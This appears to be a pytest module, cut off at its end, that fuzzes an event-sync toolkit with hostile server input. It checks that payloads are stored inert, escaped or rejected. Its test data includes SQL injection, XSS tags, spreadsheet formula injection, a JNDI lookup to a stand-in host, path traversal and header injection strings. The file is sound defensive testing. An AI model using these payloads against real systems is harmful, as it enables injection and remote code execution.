"""Hostile input: what a broken or malicious server could send, page by page and item by item.

Three layers, each asked the same thing (nothing crashes, every valid event is stored
exactly once, every invalid item is kept in `rejected_events` with a reason, nothing is
invented):

- the pure functions (`decode_page`, `build_batch`) under property-based fuzzing, judged
  by an independent oracle of what the contract calls a storable event;
- full syncs through the sandbox serving hostile dataset lines byte for byte;
- hostile servers: every 5xx, Retry-After as an HTTP date, shapes the sandbox cannot
  serve (a scripted loopback server), and the audit report over hostile text.
"""

from __future__ import annotations

import csv
import email.utils
import gzip
import hashlib
import io
import json
import math
import re
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from toolkit.config import Secret, SessionRef
from toolkit.ingest.client import RetryPolicy
from toolkit.ingest.events import NonFiniteNumber, build_batch, decode_page
from toolkit.ingest.sync import SyncOptions, sync_sessions
from toolkit.sample.generate import SampleInfo, write_sample
from toolkit.sandbox.server import Faults, Sandbox
from toolkit.store import database as db
from toolkit.store.records import EVENT_TYPES

from .conftest import SANDBOX_TOKEN
from .helpers import T0
from .test_sync import FAST, refs_of, run, stored_ids

# -- the oracle: what the contract says is a storable event, written independently ---------

ID = re.compile(r"[A-Za-z0-9_-]{1,128}")
MAX_TIME_MS = 253_402_300_799_999  # 9999-12-31T23:59:59.999Z
MAX_LEVELS = 254  # canonical JSON (orjson) carries at most this many nested containers
INT_MIN, INT_MAX = -(2**63), 2**64 - 1  # the integers JSON readers carry exactly


class _UnstorableError(Exception):
    """The oracle's verdict: the contract cannot store this item."""


def _canonical(value: Any, depth: int = 0) -> Any:
    """Integral floats as ints; anything JSON cannot carry exactly raises _UnstorableError.

    `depth` counts the containers around `value`.
    """
    if isinstance(value, bool) or value is None:
        return value
    if isinstance(value, float):
        if not math.isfinite(value) or (value.is_integer() and not INT_MIN <= value <= INT_MAX):
            raise _UnstorableError
        return int(value) if value.is_integer() else value
    if isinstance(value, int):
        if not INT_MIN <= value <= INT_MAX:
            raise _UnstorableError
        return value
    if isinstance(value, str):
        value.encode("utf-8")  # lone surrogates raise UnicodeEncodeError
        return value
    if depth >= MAX_LEVELS:
        raise _UnstorableError
    if isinstance(value, list):
        return [_canonical(v, depth + 1) for v in value]
    if isinstance(value, dict):
        return {_canonical(k, depth): _canonical(v, depth + 1) for k, v in value.items()}
    raise _UnstorableError


def reference_id(item: Any) -> str | None:
    """The event id the contract gives a storable item, or None when it must be rejected."""
    if not isinstance(item, dict):
        return None
    if not {"createdAtMs", "sessionId", "sessionOrgId", "userId", "data"} <= item.keys():
        return None
    at = item["createdAtMs"]
    if isinstance(at, bool) or not isinstance(at, int | float) or not 0 <= at <= MAX_TIME_MS:
        return None
    for name in ("sessionId", "sessionOrgId", "userId"):
        value = item[name]
        if not isinstance(value, str):
            return None
        if not (ID.fullmatch(value) or (name == "userId" and not value)):
            return None
    data = item["data"]
    if not isinstance(data, dict) or not isinstance(data.get("type"), str) or not data["type"]:
        return None
    try:
        text = json.dumps(
            _canonical(item), sort_keys=True, separators=(",", ":"), ensure_ascii=False
        ).encode("utf-8")
    except (_UnstorableError, UnicodeEncodeError, RecursionError):
        return None
    return hashlib.sha256(text).hexdigest()


# -- strategies: hostile values in every position ------------------------------------------

PAYLOADS = [
    "'; DROP TABLE events; --",
    "Robert'); DELETE FROM sync_runs WHERE ('1'='1",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "</td></tr></table><script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\u0000",
    "a\u0000b",
    "\u202eevil\u202c",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "\r\nX-Injected: 1\r\n",
    "\x1b[31mred\x1b[0m",
    "NaN",
    "Infinity",
    "\U0001f4a9\u0301\ufeff",
]
KEYS = ["__proto__", "constructor", "prototype", "", "type", "$where", "a.b", "'", '"', "\u0000"]

hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=12),
    st.text(st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF), min_size=1, max_size=2),
)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.integers(-(4 * 10**9), 4 * 10**9).map(lambda k: k / 4),  # exact binary fractions
    st.sampled_from([math.nan, math.inf, -math.inf, 1e300, -0.0, 1e16, 2.0**63, 2.0**64]),
    hostile_text,
)
json_values = st.recursive(
    scalars,
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(KEYS) | st.text(max_size=6), inner, max_size=3)
    ),
    max_leaves=8,
)
storable_scalars = st.one_of(  # hostile content JSON can carry: these items must be stored
    st.none(),
    st.booleans(),
    st.integers(-(2**63), 2**64 - 1),
    st.integers(-(4 * 10**9), 4 * 10**9).map(lambda k: k / 4),
    st.sampled_from(PAYLOADS),
    st.text(max_size=12),
)
storable_values = st.recursive(
    storable_scalars,
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(KEYS) | st.text(max_size=6), inner, max_size=3)
    ),
    max_leaves=8,
)
text = st.sampled_from(PAYLOADS) | st.text(max_size=12)
good_ids = st.from_regex(r"[A-Za-z0-9_-]{1,40}", fullmatch=True)


@st.composite
def items(draw: st.DrawFn) -> Any:
    """An item: usually an envelope, each field valid or hostile, sometimes not an object."""
    if draw(st.integers(0, 9)) == 0:
        return draw(json_values)
    hostile = draw(st.integers(0, 9)) < 4  # else only content JSON can carry, in valid places
    sometimes_bad = st.integers(0, 6).map(lambda n: hostile and n == 0)
    values = json_values if hostile else storable_values
    fields: dict[str, Any] = {
        "createdAtMs": st.integers(0, T0) | st.integers(0, 4 * T0).map(lambda k: k / 4),
        "sessionId": good_ids,
        "sessionOrgId": good_ids,
        "userId": good_ids | st.just(""),
    }
    item: dict[str, Any] = {}
    for name, good in fields.items():
        if draw(sometimes_bad):
            if draw(st.booleans()):
                item[name] = draw(json_values)
        else:
            item[name] = draw(good)
    keys = st.sampled_from(KEYS) | st.text(max_size=6)
    data = draw(st.dictionaries(keys, values, max_size=4))
    data["type"] = draw(st.sampled_from(EVENT_TYPES) | (hostile_text if hostile else text))
    data["text"] = draw(hostile_text if hostile else text)
    item["data"] = draw(json_values) if draw(sometimes_bad) else data
    return item


@st.composite
def pages(draw: st.DrawFn) -> list[Any]:
    """A page's items, with some items repeated (as equal copies) to test the dedup."""
    page = draw(st.lists(items(), max_size=12))
    repeats = draw(st.lists(st.integers(0, max(0, len(page) - 1)), max_size=3)) if page else []
    return page + [json.loads(json.dumps(page[i])) for i in repeats]


def assert_batch_matches_oracle(page: list[Any], batch: Any) -> None:
    """Every valid item stored once by its reference id, every invalid one rejected, none lost."""
    verdicts = [reference_id(item) for item in page]
    valid = {v for v in verdicts if v is not None}
    stored = batch.events.column("event_id").to_pylist()
    assert len(stored) == len(set(stored)), "an event stored twice"
    assert set(stored) == valid, "stored events differ from the valid ones"
    assert len(batch.rejects) == verdicts.count(None), [r for r, _ in batch.rejects]
    assert all(reason and isinstance(raw, str) for reason, raw in batch.rejects)
    assert batch.received == len(page)
    assert batch.received == len(stored) + len(batch.rejects) + batch.duplicates


FUZZ = settings(
    derandomize=True,
    deadline=None,
    max_examples=400,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def as_decoded(value: Any) -> Any:
    """The value as decode_page hands it over: NaN and Infinity as NonFiniteNumber."""
    if isinstance(value, float) and not math.isfinite(value):
        return NonFiniteNumber(repr(value))
    if isinstance(value, list):
        return [as_decoded(v) for v in value]
    if isinstance(value, dict):
        return {k: as_decoded(v) for k, v in value.items()}
    return value


@FUZZ
@given(page=pages())
def test_build_batch_stores_exactly_the_valid_items_and_rejects_the_rest(page):
    assert_batch_matches_oracle(page, build_batch(as_decoded(page)))


@FUZZ
@given(page=pages())
def test_pages_sent_as_bytes_decode_to_the_same_verdicts(page):
    """The wire path: JSON text with NaN tokens and \\ud800 escapes, decoded, then batched."""
    body = json.dumps({"items": page, "next": ""}).encode("ascii")
    on_the_wire = json.loads(body)["items"]  # "\ud800\udc00" on the wire is one character
    assert_batch_matches_oracle(on_the_wire, build_batch(decode_page(body)["items"]))


PAGE = (
    b'{"items":[{"createdAtMs":1767225600000,"sessionId":"s1","sessionOrgId":"o1",'
    b'"userId":"u1","data":{"type":"qaaQuestion","text":"Why?","n":[1,2.5]}}],"next":"abc"}'
)
NASTY = [
    b"\xff",
    b"\x00",
    b"\xc3",
    b"\xed\xa0\x80",
    b"NaN",
    b"-Infinity",
    b"1e999",
    b"{" * 300,
    b"[" * 2000,
    b'"',
    b"\\",
    b"\\u",
    b"\\ud800",
    b",",
    b"}",
    b"99999999999999999999999",
]


IN_STRINGS = [
    b"\xff",
    b"\xc3(",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\\u0000",
    b"\\ud800",
    b"\\udc00\\ud800",
    b"\\ud83d\\ude00",
    b"\xe2\x80\xae",
    b"<script>",
    b"'; DROP TABLE events;--",
    b"=1+1",
    b"\\\\",
    b'\\"',
]


@st.composite
def pages_with_bad_strings(draw: st.DrawFn) -> bytes:
    """A valid page whose text holds invalid UTF-8, escapes of lone surrogates and payloads."""
    inserts = draw(st.lists(st.sampled_from(IN_STRINGS), min_size=1, max_size=4))
    return PAGE.replace(b"Why?", b"Why" + b"".join(inserts) + b"?")


@st.composite
def mutated_pages(draw: st.DrawFn) -> bytes:
    """A valid page with hostile bytes spliced in at a few places."""
    body = bytearray(PAGE)
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(body)))
        cut = draw(st.integers(0, 4))
        body[at : at + cut] = draw(st.sampled_from(NASTY) | st.binary(max_size=6))
    return bytes(body)


@FUZZ
@given(body=mutated_pages() | pages_with_bad_strings() | st.binary(max_size=300))
def test_any_bytes_either_decode_or_raise_value_error_never_crash(body):
    try:
        doc = decode_page(body)
    except ValueError:  # what the client treats as a broken page, retried
        return
    if isinstance(doc, dict) and isinstance(doc.get("items"), list):
        batch = build_batch(doc["items"])
        assert batch.received == len(doc["items"])
        assert batch.received == batch.events.num_rows + len(batch.rejects) + batch.duplicates


# -- edge cases named one by one -------------------------------------------------------------

ENVELOPE = b'{"createdAtMs":%d,"sessionId":"s1","sessionOrgId":"o1","userId":"u1","data":' % T0


def nested_item(levels: int, leaf: bytes = b"1") -> bytes:
    """An item whose `data` holds containers nested so the item is `levels` deep in all."""
    inner = levels - 2  # the envelope and data are the first two levels
    return ENVELOPE + b'{"type":"t","deep":' + b'{"k":' * inner + leaf + b"}" * inner + b"}}"


@pytest.mark.parametrize("levels", [10, 254, 255, 256, 1000, 1024, 1025, 5000, 100_000])
@pytest.mark.parametrize("leaf", [b"1", b"1.5", b'"\xff"'], ids=["int", "float", "bad-utf8"])
def test_deeply_nested_items_are_rejected_alone_and_their_neighbours_kept(levels, leaf):
    neighbour = ENVELOPE + b'{"type":"session"}}'
    body = b'{"items":[' + nested_item(levels, leaf) + b"," + neighbour + b"]}"
    batch = build_batch(decode_page(body)["items"])
    storable = levels <= MAX_LEVELS and leaf != b'"\xff"'
    assert batch.events.num_rows == 1 + storable
    assert len(batch.rejects) == int(not storable)
    if not storable:
        reason, raw = batch.rejects[0]
        assert reason and raw.startswith('{"createdAtMs":') and raw.count('{"k":') == levels - 2
        if leaf == b"1":
            assert f"nested more than {MAX_LEVELS} levels deep" in reason


def test_a_one_megabyte_text_is_stored_whole():
    text = "x" * (1 << 20) + "<script>alert(1)</script>"
    item = {**json.loads(ENVELOPE + b'{"type":"qaaQuestion"}}'), "data": {"type": "qaaQuestion"}}
    item["data"]["text"] = text
    batch = build_batch([item])
    assert batch.events.num_rows == 1
    assert json.loads(batch.events.column("data")[0].as_py())["text"] == text


@pytest.mark.parametrize(
    "token", [b"NaN", b"Infinity", b"-Infinity", b"1e400", b"-1e400", b"18446744073709551616"]
)
def test_numbers_json_cannot_carry_exactly_are_rejected_never_rewritten(token):
    body = b'{"items":[' + ENVELOPE + b'{"type":"poll","votes":' + token + b"}}]}"
    batch = build_batch(decode_page(body)["items"])
    assert batch.events.num_rows == 0, batch.events.column("data").to_pylist()
    assert len(batch.rejects) == 1


def test_duplicate_keys_resolve_as_every_json_reader_does_the_last_wins():
    body = b'{"items":[' + ENVELOPE + b'{"type":"qaaQuestion","text":"first","text":"second"}}]}'
    batch = build_batch(decode_page(body)["items"])
    assert json.loads(batch.events.column("data")[0].as_py())["text"] == "second"


# -- full syncs through the sandbox, serving hostile lines byte for byte ---------------------


def hostile_lines(org: str, session: str) -> tuple[list[bytes], list[bytes]]:
    """(lines that are valid events, lines that must be rejected), for one session."""
    env = {"sessionId": session, "sessionOrgId": org, "userId": "u-mallory"}

    def line(data: dict[str, Any], at: Any = T0, **envelope: Any) -> bytes:
        return json.dumps({"createdAtMs": at, **env, **envelope, "data": data}).encode()

    def question(text: str, name: str) -> dict[str, Any]:
        return {
            "type": "qaaQuestion",
            "sessionId": session,
            "questionId": f"q-{len(text)}",
            "createdAtMs": T0,
            "modifiedAtMs": T0,
            "isDeleted": False,
            "text": text,
            "isAnonymous": False,
            "upvotes": 0,
            "replyCount": 0,
            "status": "public",
            "user": {"userId": "u-mallory", "name": name, "unverifiedName": ""},
        }

    poll = {
        "type": "poll",
        "sessionId": session,
        "pollId": "p-hostile",
        "createdAtMs": T0,
        "modifiedAtMs": T0,
        "isDeleted": False,
        "pollType": "simple",
        "questionType": "choice",
        "title": '=HYPERLINK("http://evil.example","x")',
        "description": "'; DROP TABLE polls; --",
        "isLocked": False,
        "order": 1,
        "options": {
            "o-1": {"title": "<script>alert('option')</script>", "isCorrect": False, "order": 0},
            "o-2": {"title": "Yes", "isCorrect": True, "order": 1},
        },
    }
    deep: dict[str, Any] = {"leaf": 1}
    for _ in range(200):
        deep = {"k": deep}
    valid = [
        line(question("<script>alert('question')</script>", "<script>alert('name')</script>")),
        line(question("'; DROP TABLE events; --", "Robert'); DROP TABLE sync_runs;--")),
        line(question("=cmd|' /C calc'!A0 @SUM(1) +1 -1", "\u202egnp.exe\u0000\x1b[2J")),
        line(question("x" * (1 << 20), "Big")),
        line(poll),
        line({"type": "qaaQuestion", "__proto__": {"isAdmin": True}, "constructor": "x"}),
        line({"type": "<img src=x onerror=alert(1)>", "text": "unknown type, kept"}),
        line({"type": "qaa", "deep": deep}),
        line({"type": "session"}, userId=""),
        line({"type": "session", "n": 5}, at=float(T0 + 7)),  # integral float: stored as int
        line({"type": "session", "n": 5}, at=T0 + 7),  # ...so this is the same event again
        b'{"data":{"type":"session","n":6},"userId":"u-mallory","sessionOrgId":"%s",'
        b'"sessionId":"%s",   "createdAtMs":%d}' % (org.encode(), session.encode(), T0 + 8),
        line({"type": "qaaQuestion", "text": "a"})[:-2] + b',"text":"dup key wins"}}',
    ]
    mallory = b'"userId": "u-mallory"'
    rejected = [
        line({"type": "qaaQuestion", "text": "caf\u00e9"}).replace(b"caf\\u00e9", b"caf\xff"),
        line({"type": "qaaQuestion", "text": "\ud800"}),
        line({"type": "poll", "votes": 1}).replace(b'"votes": 1', b'"votes": NaN'),
        line({"type": "poll"}, at=1).replace(b'"createdAtMs": 1', b'"createdAtMs": Infinity'),
        line({"type": "poll", "votes": 1}).replace(b'"votes": 1', b'"votes": 1e400'),
        line({"type": "poll", "votes": 2**64}),
        line({"type": "poll"}, at=-1),
        line({"type": "poll"}, at="1767225600000"),
        line({"type": "poll"}, at=True),
        line({"type": "poll"}, at=None),
        line({"type": "poll"}, at=1e300),
        line({"type": "poll"}, sessionId="x' OR '1'='1"),
        line({"type": "poll"}, sessionOrgId="<script>alert(1)</script>"),
        line({"type": "poll"}, userId="u" * 129),
        line({"type": "poll"}).replace(mallory, b'"userId":["u-1"]'),
        line("qaaQuestion"),  # type: ignore[arg-type]
        line({"text": "no type"}),
        line({"type": ""}),
        line({"type": 7}),
        nested_item(1000),
        b"42",
        b'"just a string"',
        b"null",
        b"[]",
        b"true",
        b'{"createdAtMs":1767225600000}',
    ]
    return valid, rejected


def hostile_dataset(root: Path) -> tuple[SampleInfo, list[bytes], list[bytes]]:
    """A one-session sample with hostile lines appended to its file."""
    info = write_sample(root, sessions=1, events=300, seed=5)
    session = info.sessions[0]
    valid, rejected = hostile_lines(session.org_id, session.session_id)
    with (info.out_dir / session.file).open("ab") as fh:
        fh.write(b"\n".join(valid + rejected) + b"\n")
    return info, valid, rejected


def test_sync_of_hostile_lines_stores_the_valid_and_keeps_the_rest(
    tmp_path, sandbox_factory, tmp_db
):
    info, valid, rejected = hostile_dataset(tmp_path / "ds")
    box = sandbox_factory(dataset_dir=info.out_dir, page_size=50)
    con, results = run(tmp_db, box, refs_of(info))
    assert [r.status for r in results] == ["ok"], results[0].error
    sample_ids = {reference_id(json.loads(x)) for x in sample_lines(info)}
    valid_ids = {reference_id(json.loads(v)) for v in valid}
    assert None not in valid_ids and len(valid_ids) == len(valid) - 1  # one pair is one event
    ids = stored_ids(con)
    assert len(ids) == len(set(ids)), "an event stored twice"
    assert set(ids) == sample_ids | valid_ids
    rows = con.execute("SELECT reason, raw FROM rejected_events").fetchall()
    assert len(rows) == len(rejected) == results[0].rejected
    assert all(reason for reason, _raw in rows)
    reasons = " | ".join(reason for reason, _raw in rows)
    for expected in (
        "not valid UTF-8",
        "not finite",
        "64-bit",
        "outside the range of valid",
        "is not an id",
        "not a JSON object",
        "data has no type",
        "nested",
    ):
        assert expected in reasons, expected
    text = con.execute(
        "SELECT data ->> '$.text' FROM events WHERE data ->> '$.text' LIKE '%DROP TABLE%'"
    ).fetchall()
    assert text == [("'; DROP TABLE events; --",)]  # stored as data, never run as SQL
    con.close()
    con, results = run(tmp_db, box, refs_of(info))
    assert results[0].new == 0 and len(stored_ids(con)) == len(ids)
    assert con.execute("SELECT count(*) FROM rejected_events").fetchone() == (len(rejected),)


def test_csv_and_table_output_of_hostile_text_is_inert(tmp_path, sandbox_factory, tmp_db):
    from toolkit.analysis.formats import render_frame

    info, _valid, _rejected = hostile_dataset(tmp_path / "ds")
    con, results = run(tmp_db, sandbox_factory(dataset_dir=info.out_dir), refs_of(info))
    assert results[0].status == "ok"
    frame = con.sql(
        "SELECT data ->> '$.text' AS text, data ->> '$.title' AS title, "
        "data -> '$.user' ->> '$.name' AS name, event_type FROM events "
        "WHERE actor_user_id = 'u-mallory' AND length(coalesce(data ->> '$.text', '')) < 1000"
    ).pl()
    assert frame.height >= 5
    cells = list(csv.reader(io.StringIO(render_frame(frame, "csv").decode("utf-8"))))
    formulas = [c for row in cells[1:] for c in row if c and c[0] in "=+-@\t\r"]
    assert formulas == [], "a spreadsheet would run these"
    assert any(c.startswith("'=") for row in cells for c in row)
    table = render_frame(frame, "table").decode("utf-8")
    assert "\x00" not in table and "\x1b" not in table  # shown as \x00, \x1b
    assert "\\x00" in table and "\\x1b[2J" in table


def test_the_table_format_shows_bidi_overrides_escaped():
    import polars as pl

    from toolkit.analysis.formats import render_frame

    table = render_frame(pl.DataFrame({"name": ["\u202egnp.exe", "a\u2066b"]}), "table")
    assert "\u202e" not in table.decode() and "\u2066" not in table.decode()


def sample_lines(info: SampleInfo) -> list[str]:
    """The lines write_sample wrote (the first `events` lines of each session file)."""
    lines: list[str] = []
    for session in info.sessions:
        text = (info.out_dir / session.file).read_text("utf-8", "surrogateescape")
        lines += text.splitlines()[: session.events]
    return lines


def test_the_html_and_markdown_reports_escape_script_in_questions_names_and_options(
    tmp_path, sandbox_factory, tmp_db
):
    from toolkit.report.build import build_report, render_html, render_markdown

    info, _valid, _rejected = hostile_dataset(tmp_path / "ds")
    box = sandbox_factory(dataset_dir=info.out_dir)
    con, results = run(tmp_db, box, refs_of(info))
    assert results[0].status == "ok"
    report = build_report(con, info.sessions[0].session_id, generated_at="2026-01-01T00:00:00Z")
    page = render_html(report)
    for payload in ("question", "name", "option"):
        assert f"&lt;script&gt;alert(&#x27;{payload}&#x27;)&lt;/script&gt;" in page, payload
    assert "<script" not in page.lower() and "<img" not in page.lower()
    markdown = render_markdown(report)
    assert "\\<script\\>alert('name')" in markdown
    assert not re.search(r"(?<!\\)<(script|img)", markdown, re.IGNORECASE)


def test_a_line_that_breaks_its_page_fails_the_session_loudly_and_invents_nothing(
    tmp_path, sandbox_factory, tmp_db
):
    info = write_sample(tmp_path / "ds", sessions=1, events=600, seed=6)
    with (info.out_dir / info.sessions[0].file).open("ab") as fh:
        fh.write(b'{"createdAtMs": 1, "data": {"unclosed": \n')
    box = sandbox_factory(dataset_dir=info.out_dir, page_size=100, seed=1)
    con, results = run(tmp_db, box, refs_of(info))
    (result,) = results
    assert result.status in ("partial", "failed") and "not JSON" in result.error
    assert "unexpected" not in result.error
    ids = stored_ids(con)
    assert len(ids) == len(set(ids))
    assert set(ids) <= {reference_id(json.loads(line)) for line in sample_lines(info)}


def test_the_sandbox_serves_a_line_with_a_huge_created_at_for_the_client_to_reject(
    tmp_path, sandbox_factory, tmp_db
):
    info = write_sample(tmp_path / "ds", sessions=1, events=50, seed=2)
    with (info.out_dir / info.sessions[0].file).open("ab") as fh:
        fh.write(ENVELOPE.replace(b"%d" % T0, b"99999999999999999999") + b'{"type":"t"}}\n')
    con, results = run(tmp_db, sandbox_factory(dataset_dir=info.out_dir), refs_of(info))
    assert results[0].rejected == 1 and len(stored_ids(con)) == 50


@settings(
    derandomize=True,
    deadline=None,
    max_examples=6,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(extra=st.lists(items(), min_size=10, max_size=40))
def test_a_sync_of_generated_hostile_lines_stores_exactly_what_the_oracle_accepts(extra):
    served = [i for i in extra if _sandbox_serves(i)]
    with tempfile.TemporaryDirectory() as tmp:
        info = write_sample(Path(tmp) / "ds", sessions=1, events=120, seed=9)
        path = info.out_dir / info.sessions[0].file
        with path.open("ab") as fh:
            for item in served:
                fh.write(json.dumps(item).encode("ascii") + b"\n")
        verdicts = [reference_id(json.loads(json.dumps(i))) for i in served]  # as on the wire
        with Sandbox(info.out_dir, token=SANDBOX_TOKEN, faults=Faults(page_size=64)) as box:
            con = db.connect(Path(tmp) / "db.duckdb")
            options = SyncOptions(box.base_url, Secret(SANDBOX_TOKEN), policy=FAST)
            (result,) = sync_sessions(con, refs_of(info), options)
            ids = stored_ids(con)
            rejects = con.execute("SELECT count(*) FROM rejected_events").fetchone()[0]
            con.close()
        sample_ids = {reference_id(json.loads(x)) for x in sample_lines(info)}
    assert result.status == "ok", result.error
    assert len(ids) == len(set(ids))
    assert set(ids) == sample_ids | {v for v in verdicts if v}
    assert rejects == len({json.dumps(i) for i, v in zip(served, verdicts, strict=True) if not v})


def _sandbox_serves(item: Any) -> bool:
    """The sandbox holds back lines it reads as newer than now - lag; keep to the served."""
    if not isinstance(item, dict):
        return True
    text = json.dumps(item)
    found = re.search(r'"createdAtMs"\s*:\s*(\d+)', text[:4096])
    return not found or int(found.group(1)) <= T0


# -- hostile servers: statuses, Retry-After forms, shapes the sandbox cannot serve -----------

DIVERSE_5XX = [500, 501, 502, 503, 504, 505, 507, 520, 522, 524, 599]


@pytest.mark.parametrize("status", DIVERSE_5XX)
def test_each_5xx_is_retried_and_the_sync_completes(
    status, sample_dataset, sandbox_factory, tmp_db
):
    box = sandbox_factory(seed=4, error_rate=0.4, error_statuses=(status,))
    con, results = run(tmp_db, box, refs_of(sample_dataset)[:1])
    assert results[0].status == "ok", results[0].error
    assert any(s == status for *_, s in box.request_log)
    ids = stored_ids(con)
    assert len(ids) == len(set(ids)) == sample_dataset.sessions[0].events


def _first_wait_after(box: Sandbox, status: int) -> float:
    log = [(t, s) for t, _m, _p, s in box.request_log]
    i = next(i for i, (_, s) in enumerate(log) if s == status)
    return log[i + 1][0] - log[i][0]


def test_retry_after_as_an_http_date_is_waited_out(sample_dataset, sandbox_factory, tmp_db):
    # 4.5 s ahead: the date's whole seconds (up to 1 s lost) and the time to start the
    # sandbox and reach the first 429 (over 0.5 s on a busy machine) leave at least 1 s
    when = email.utils.formatdate(time.time() + 4.5, usegmt=True)
    box = sandbox_factory(rate_limit_every=3, retry_after=when)
    con, results = run(tmp_db, box, refs_of(sample_dataset)[:1])
    assert results[0].status == "ok", results[0].error
    assert _first_wait_after(box, 429) >= 1.0
    assert len(set(stored_ids(con))) == sample_dataset.sessions[0].events


def test_retry_after_as_a_past_http_date_backs_off_and_completes(
    sample_dataset, sandbox_factory, tmp_db
):
    box = sandbox_factory(locked_every=2, retry_after="Wed, 21 Oct 2015 07:28:00 GMT")
    con, results = run(tmp_db, box, refs_of(sample_dataset)[:1])
    assert results[0].status == "ok", results[0].error
    assert len(set(stored_ids(con))) == sample_dataset.sessions[0].events


def test_retry_after_as_a_far_http_date_fails_instead_of_waiting(
    sample_dataset, sandbox_factory, tmp_db
):
    when = email.utils.formatdate(time.time() + 3600, usegmt=True)
    box = sandbox_factory(rate_limit_every=1, retry_after=when)
    _con, results = run(tmp_db, box, refs_of(sample_dataset)[:1])
    assert results[0].status == "failed" and "asked to wait" in results[0].error
    # it gave up on the first answer: no request after it, waited or not
    assert [status for *_, status in box.request_log] == [429]


Reply = tuple[int, dict[str, str], bytes]


class Scripted:
    """A loopback HTTP server answering each request with `script(path, headers)`.

    Every request is recorded as (path, headers) in `requests`.
    """

    def __init__(self, script: Callable[[str, dict[str, str]], Reply], host: str = "127.0.0.1"):
        self.script = script
        self.requests: list[tuple[str, dict[str, str]]] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                headers = dict(self.headers.items())
                owner.requests.append((self.path, headers))
                status, extra, body = owner.script(self.path, headers)
                self.send_response(status)
                for name, value in extra.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                """Quiet."""

        self.server = ThreadingHTTPServer((host, 0), Handler)
        self.server.daemon_threads = True
        self.base_url = f"http://{host}:{self.server.server_address[1]}/v1"

    @contextmanager
    def running(self) -> Iterator[Scripted]:
        thread = threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        try:
            yield self
        finally:
            self.server.shutdown()
            self.server.server_close()


def sync_against(server: Scripted, tmp_db: Path, token: str = SANDBOX_TOKEN, **policy: Any):
    """One session synced from a scripted server: (connection, result)."""
    con = db.connect(tmp_db)
    options = SyncOptions(
        server.base_url, Secret(token), policy=RetryPolicy(**{**FAST.__dict__, **policy})
    )
    (result,) = sync_sessions(con, [SessionRef("org-1", "sess-1")], options)
    return con, result


ONE = {
    "createdAtMs": T0,
    "sessionId": "sess-1",
    "sessionOrgId": "org-1",
    "userId": "u-1",
    "data": {"type": "session"},
}


@pytest.mark.parametrize(
    "body",
    [
        b"null",
        b"[]",
        b'"items"',
        b"42",
        b'{"items":{}}',
        b'{"items":"x"}',
        b'{"items":[],"next":7}',
        b'{"items":[],"next":["a"]}',
        b"[" * 100_000,
        b"\xff\xfe",
    ],
    ids=lambda b: b[:16].decode("latin-1"),
)
def test_a_page_of_the_wrong_shape_fails_the_session_cleanly(body, tmp_db):
    with Scripted(lambda _p, _h: (200, {}, body)).running() as server:
        con, result = sync_against(server, tmp_db, attempts=2)
    assert result.status == "failed" and "unexpected" not in result.error
    assert con.execute("SELECT count(*) FROM events").fetchone() == (0,)


def test_a_deeply_nested_error_body_is_just_an_error(tmp_db):
    calls = []

    def script(_path: str, _headers: dict[str, str]) -> Reply:
        calls.append(1)
        if len(calls) == 1:
            return 500, {"Content-Type": "application/json"}, b'{"a":' * 50_000
        return 200, {}, json.dumps({"items": [ONE]}).encode()

    with Scripted(script).running() as server:
        con, result = sync_against(server, tmp_db)
    assert result.status == "ok", result.error
    assert con.execute("SELECT count(*) FROM events").fetchone() == (1,)


def test_a_compressed_page_is_asked_for_and_read(tmp_db):
    def script(_path: str, headers: dict[str, str]) -> Reply:
        body = json.dumps({"items": [ONE]}).encode()
        if "gzip" not in headers.get("Accept-Encoding", ""):
            return 200, {}, body
        return 200, {"Content-Encoding": "gzip"}, gzip.compress(body)

    with Scripted(script).running() as server:
        con, result = sync_against(server, tmp_db)
    assert result.status == "ok", result.error
    assert "gzip" in server.requests[0][1]["Accept-Encoding"]
    assert con.execute("SELECT count(*) FROM events").fetchone() == (1,)


def test_a_server_that_closes_each_connection_costs_no_failed_request(tmp_db):
    def script(path: str, _headers: dict[str, str]) -> Reply:
        page = int(path.rsplit("start=p", 1)[1]) if "start=p" in path else 0
        item = {**ONE, "createdAtMs": T0 + page}
        body = {"items": [item], "next": f"p{page + 1}" if page < 3 else None}
        return 200, {"Connection": "close"}, json.dumps(body).encode()

    with Scripted(script).running() as server:
        con, result = sync_against(server, tmp_db)
    assert result.status == "ok" and result.pages == 4, result.error
    assert len(server.requests) == 4  # each asked for once, on a new connection
    assert con.execute("SELECT count(*) FROM events").fetchone() == (4,)


def test_fields_beside_the_envelope_are_stored_with_the_event(tmp_db):
    item = {**ONE, "eventVersion": 2, "links": {"self": "x"}}
    page = json.dumps({"items": [item]}).encode()
    with Scripted(lambda _p, _h: (200, {}, page)).running() as server:
        con, result = sync_against(server, tmp_db)
    assert result.status == "ok" and result.new == 1, result.error
    (extra,) = con.execute("SELECT envelope_extra FROM events").fetchone()
    assert json.loads(extra) == {"eventVersion": 2, "links": {"self": "x"}}


def test_a_next_token_cannot_inject_query_parameters(tmp_db):
